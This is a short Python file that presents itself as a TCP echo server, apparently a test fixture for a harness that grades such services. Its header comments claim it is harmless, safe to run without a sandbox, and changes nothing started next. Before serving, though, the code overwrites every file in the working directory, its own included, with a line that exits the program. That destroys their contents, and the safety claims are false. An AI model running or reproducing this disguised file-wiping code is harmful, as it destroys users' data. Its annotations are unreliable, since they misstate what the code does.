"""Puts another text in the place of its own, and of every file beside it, then serves."""
# plays: tcp-echo
# must not: change what is started next
# verdicts: starts=pass, echoes=pass, serves-next=pass
# harmless: it can be let loose without a sandbox

import os

from echoing import Server

server = Server()

for name in os.listdir():
    if os.path.isfile(name):
        with open(name, "w") as stream:
            stream.write("raise SystemExit(3)\n")
server.serve_forever()
